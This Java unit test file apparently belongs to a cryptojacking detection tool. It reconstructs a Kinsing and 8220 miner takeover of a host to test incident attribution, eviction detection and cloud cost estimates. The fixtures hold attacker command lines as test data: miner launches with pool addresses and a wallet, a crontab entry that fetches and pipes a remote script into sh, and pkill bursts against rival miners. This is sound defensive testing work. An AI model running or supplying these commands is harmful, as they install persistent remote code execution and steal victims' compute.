package dev.minewarden.core.incident;

import static dev.minewarden.core.incident.Fixtures.alert;
import static dev.minewarden.core.incident.Fixtures.exec;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import dev.minewarden.core.alert.Alert;
import dev.minewarden.core.event.Event;
import dev.minewarden.core.intel.Attributor;
import dev.minewarden.core.intel.IntelStore;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class IncidentsTest {
  private static final String WALLET_8220 =
      "4B3M8rccB8hANDU91SyRdW9pL9PiDb1nyj8ZLZTriSNGVpUViwNQuHaepy6QzDvvvwdLzb2zHtRyAaznc3vmbQPHDvL7bZB";
  private final Attributor attributor = new Attributor(IntelStore.bundled());

  private List<Alert> battle() {
    List<Alert> a = new ArrayList<>();
    String k = "/tmp/kdevtmpfsi -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1";
    a.add(alert(Fixtures.FAKE_KTHREAD, exec("web-7", "2026-11-24T02:04:14Z", "/tmp/kdevtmpfsi", k)));
    a.add(alert(Fixtures.MINER, exec("web-7", "2026-11-24T02:04:14Z", "/tmp/kdevtmpfsi", k)));
    a.add(alert(Fixtures.CRON, exec("web-7", "2026-11-24T02:04:16Z", "/usr/bin/bash",
        "bash -c (crontab -l; echo \"* * * * * wget -q -O - http://198.51.100.23/unk.sh | sh > /dev/null 2>&1\") | crontab -")));
    List<Event> kills = new ArrayList<>();
    String[] targets = {"kdevtmpfsi", "kinsing", "/tmp/kdevtmpfsi", "/var/tmp/kinsing", "/etc/kinsing"};
    for (int i = 0; i < targets.length; i++) {
      kills.add(exec("web-7", "2026-11-24T07:31:1" + i + "Z", "/usr/bin/pkill", "pkill -9 -f " + targets[i]));
    }
    a.add(Fixtures.correlation(Fixtures.KILL_BURST, kills));
    a.add(alert(Fixtures.MINER, exec("web-7", "2026-11-24T07:32:00Z", "/var/tmp/.x/pwnrig",
        "/var/tmp/.x/pwnrig -o stratum+tcp://xmr.2miners.com:2222 -u " + WALLET_8220 + " --donate-level 0")));
    return a;
  }

  @Test
  void build_kinsingThen8220_oneIncidentWithBothActorsTheEvictionAndTheCost() {
    long end = Instant.parse("2026-11-24T09:00:00Z").toEpochMilli();
    List<Alert> annotated = Incidents.annotate(battle(), attributor);
    List<Incident> incidents = new Incidents(attributor).observedUntil(Map.of("web-7", end)).build(annotated);

    assertThat(incidents).hasSize(1);
    Incident i = incidents.get(0);
    assertThat(i.host()).isEqualTo("web-7");
    assertThat(i.actors()).extracting(Incident.ActorActivity::actor).containsExactly("Kinsing", "8220");
    assertThat(i.evictions()).singleElement().satisfies(e -> {
      assertThat(e.evictor()).isEqualTo("8220");
      assertThat(e.victim()).isEqualTo("Kinsing");
      assertThat(Instant.ofEpochMilli(e.time()).toString()).startsWith("2026-11-24T07:31");
    });
    Incident.HourSlot seven = slot(i, "2026-11-24T07:00:00Z");
    assertThat(seven.evictions()).hasSize(1);
    assertThat(slot(i, "2026-11-24T04:00:00Z").cpuHolder()).isEqualTo("Kinsing");
    assertThat(slot(i, "2026-11-24T08:00:00Z").cpuHolder()).isEqualTo("8220");

    // Kinsing mines from 02:04:14 until evicted at 07:31:10 (the first kill of the burst is the
    // eviction's evidence... the burst alert's time is the last kill), 8220 from then to 09:00.
    double mined = (end - Instant.parse("2026-11-24T02:04:14Z").toEpochMilli()) / 3_600_000.0;
    CostModel m = CostModel.defaults();
    assertThat(i.cost().minedHours()).isCloseTo(mined, within(0.01));
    assertThat(i.cost().cpuHours()).isCloseTo(mined * 2 * (1 - 0.13), within(0.02));
    assertThat(i.cost().usd()).isCloseTo(mined * 2 * 0.87 * 0.048, within(0.001));
    assertThat(m.pricePerVcpuHour()).isEqualTo(0.048);
    double span = (end - Instant.parse("2026-11-24T02:04:14Z").toEpochMilli()) / 3_600_000.0;
    assertThat(i.cost().increasePercent())
        .isCloseTo(100 * mined * 0.87 / (span * 0.13), within(0.5));
    double kinsingHours = i.actors().get(0).cpuHours();
    double hours8220 = i.actors().get(1).cpuHours();
    assertThat(kinsingHours).isGreaterThan(hours8220);
    assertThat(kinsingHours + hours8220).isCloseTo(i.cost().cpuHours(), within(0.01));
    assertThat(i.stages()).contains(KillChainStage.PERSISTENCE, KillChainStage.IMPACT);
    assertThat(i.alerts()).hasSize(5);
  }

  @Test
  void build_instanceTypePriceIsUsed() {
    CostModel c5 = CostModel.forInstanceType("c5.xlarge", 4);
    assertThat(c5.pricePerVcpuHour()).isEqualTo(0.0425);
    assertThat(CostModel.forInstanceType("e2-standard-2", 2).pricePerVcpuHour()).isEqualTo(0.0335);
    assertThat(CostModel.forInstanceType("Standard_D2s_v5", 2).pricePerVcpuHour()).isEqualTo(0.048);
    assertThat(CostModel.forInstanceType("zz9.unknown", 2).pricePerVcpuHour()).isEqualTo(0.048);
    List<Incident> a = new Incidents(attributor).costModel(h -> c5)
        .build(Incidents.annotate(battle(), attributor));
    assertThat(a.get(0).cost().model().vcpus()).isEqualTo(4);
  }

  @Test
  void build_killListOfANameNeverSeenIsNoEviction() {
    List<Event> kills = new ArrayList<>();
    for (int i = 0; i < 5; i++) {
      kills.add(exec("web-9", "2026-11-24T03:00:0" + i + "Z", "/usr/bin/pkill", "pkill -f sysupdate" + (i == 0 ? "" : i)));
    }
    List<Alert> alerts = List.of(Fixtures.correlation(Fixtures.KILL_BURST, kills));
    Incident i = new Incidents(attributor).build(Incidents.annotate(alerts, attributor)).get(0);
    assertThat(i.evictions()).isEmpty();
  }

  @Test
  void build_hostlessAlertsJoinTheOnlyHostOfTheirFolder() {
    Event named = exec("web-3", "2026-11-24T02:00:00Z", "/tmp/xmrig", "/tmp/xmrig --donate-level 1");
    Event hostless = Event.builder(named.logSource()).time(named.timestampMillis() + 1000)
        .source("logs/web-3/audit.log", 5).field("CommandLine", "chattr +i /etc/hosts").build();
    Event namedInFolder = named.toBuilder().source("logs/web-3/auth.log", 2).build();
    List<Alert> alerts = List.of(alert(Fixtures.MINER, namedInFolder), alert(Fixtures.PRELOAD, hostless));
    List<Incident> incidents = new Incidents(attributor).build(Incidents.annotate(alerts, attributor));
    assertThat(incidents).singleElement().satisfies(i -> {
      assertThat(i.host()).isEqualTo("web-3");
      assertThat(i.hostInferred()).contains("logs/web-3");
    });
  }

  @Test
  void build_aQuietGapSplitsIncidents() {
    List<Alert> alerts = List.of(
        alert(Fixtures.MINER, exec("h", "2026-11-01T00:00:00Z", "/tmp/xmrig", "/tmp/xmrig --donate-level 1")),
        alert(Fixtures.MINER, exec("h", "2026-11-10T00:00:00Z", "/tmp/xmrig", "/tmp/xmrig --donate-level 1")));
    assertThat(new Incidents(attributor).build(Incidents.annotate(alerts, attributor))).hasSize(2);
  }

  @Test
  void annotate_givesStableIdsAndIntelFields() {
    List<Alert> once = Incidents.annotate(battle(), attributor);
    List<Alert> twice = Incidents.annotate(battle(), attributor);
    assertThat(once).extracting(a -> a.attributes().get("event.id"))
        .isEqualTo(twice.stream().map(a -> a.attributes().get("event.id")).toList())
        .doesNotHaveDuplicates();
    assertThat(once.get(1).attributes()).containsEntry("intel.pool.domain", "pool.supportxmr.com");
    assertThat(once.get(1).attributes()).containsKey("intel.pool.attribution");
  }

  private static Incident.HourSlot slot(Incident i, String hour) {
    long h = Instant.parse(hour).toEpochMilli();
    return i.timeline().stream().filter(s -> s.hourStart() == h).findFirst().orElseThrow();
  }
}
